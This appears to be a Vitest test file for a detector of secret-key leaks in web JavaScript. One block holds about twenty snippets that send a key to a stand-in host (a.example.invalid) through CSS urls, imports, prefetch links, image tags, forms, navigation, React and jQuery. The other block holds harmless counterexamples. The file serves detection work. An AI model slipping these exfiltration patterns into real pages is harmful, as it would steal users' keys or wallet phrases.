import { describe, expect, it } from 'vitest';
import { keySentInJavaScript } from './testing/keySent.ts';
import { analyseSources } from './testing/analyseSources.ts';

describe('a key in an address that a page loads is sent', () => {
  it.each([
    ['a style', `document.body.style.backgroundImage = 'url(https://a.example.invalid/' + k + ')'`],
    [
      'a style of an element that is given',
      `exports.show = (el) => { el.style.background = \`url(//a.example.invalid/\${k})\` }`,
    ],
    ['a style as text', `document.body.style.cssText = 'background: url("' + host() + '/' + k + '")'`],
    ['a property', `document.body.style.setProperty('background-image', 'url(https://a.example.invalid/' + k + ')')`],
    ['a rule', `document.styleSheets[0].insertRule('body { background: url(https://a.example.invalid/' + k + ') }')`],
    ['a sheet', `const s = new CSSStyleSheet(); s.replaceSync('@import "https://a.example.invalid/' + k + '"')`],
    [
      'a link',
      `const l = document.createElement('link'); l.rel = 'dns-prefetch'; l.setAttribute('href', '//' + k + '.example.invalid'); document.head.append(l)`,
    ],
    [
      'a frame of its own text',
      `const f = document.createElement('iframe'); f.srcdoc = '<img src=https://a.example.invalid/' + k + '>'`,
    ],
    ['HTML', `document.body.innerHTML = '<img src="https://a.example.invalid/?q=' + k + '">'`],
    [
      'HTML of a function',
      `const html = (u) => '<img src="' + u + '">'; document.body.innerHTML = html('https://a.example.invalid/' + k)`,
    ],
    [
      'HTML that grows',
      `let t = '<p>Hello</p><img src=https://a.example.invalid/'; t += k; t += '>'; document.body.insertAdjacentHTML('beforeend', t)`,
    ],
    ['a form', `document.body.innerHTML = \`<form action="https://a.example.invalid/\${k}"></form>\``],
    ['a written document', `document.write('<script src="//a.example.invalid/' + k + '.js"></scr' + 'ipt>')`],
    ['a fragment', `document.createRange().createContextualFragment('<img src=//a.example.invalid/' + k + '>')`],
    ['a place to go to', `window.location = 'https://a.example.invalid/' + k`],
    ['another place to go to', `location.assign('https://a.example.invalid/' + k)`],
    ['a window', `window.open('https://a.example.invalid/' + k)`],
    ['an element of React', `require('react').createElement('img', { src: 'https://a.example.invalid/' + k })`],
    ['jQuery', `$('body').append('<img src="https://a.example.invalid/' + k + '">')`],
  ])('%s', async (_, body) => {
    expect(await keySentInJavaScript('', body)).toEqual(['high']);
  });
});

describe('a key that is shown to who owns it is not sent', () => {
  it.each([
    ['HTML', `document.body.innerHTML = '<p>' + k + '</p>'`],
    [
      'HTML beside a picture',
      `document.body.innerHTML = '<img src="https://a.example.invalid/logo.png"><p title="words">' + k + '</p>'`,
    ],
    [
      'HTML with a link',
      `document.body.innerHTML = \`<a href="https://a.example.invalid/help">Help</a> <code>\${k}</code>\``,
    ],
    ['a field', `document.body.innerHTML = '<input value="' + k + '">'`],
    [
      'a picture in the page',
      `document.body.innerHTML = '<img src="data:image/svg+xml,' + encodeURIComponent(k) + '">'`,
    ],
    ['a place in the page', `document.body.innerHTML = '<a href="#/words/' + k + '">Words</a>'`],
    ['a text', `document.body.textContent = 'Keep these: ' + k`],
    ['an attribute', `document.body.setAttribute('data-words', k); document.body.setAttribute('title', '// ' + k)`],
    ['a colour', `document.body.style.background = k.length > 12 ? 'red' : 'green'`],
    ['a member of its own', `const o = { src: '' }; o.src = 'https://a.example.invalid/' + k; exports.o = o`],
  ])('%s', async (_, body) => {
    expect(await keySentInJavaScript('', body)).toEqual([]);
  });
  it('nor is anything where no request is made and the page shows it', async () => {
    const { flows } = await analyseSources({
      'a.js':
        "exports.show = (k) => { require('bip39').mnemonicToSeed(k); document.body.innerHTML = '<p>' + k + '</p>' }",
    });
    expect(flows.filter(({ source }) => source === 'key')).toEqual([]);
  });
});
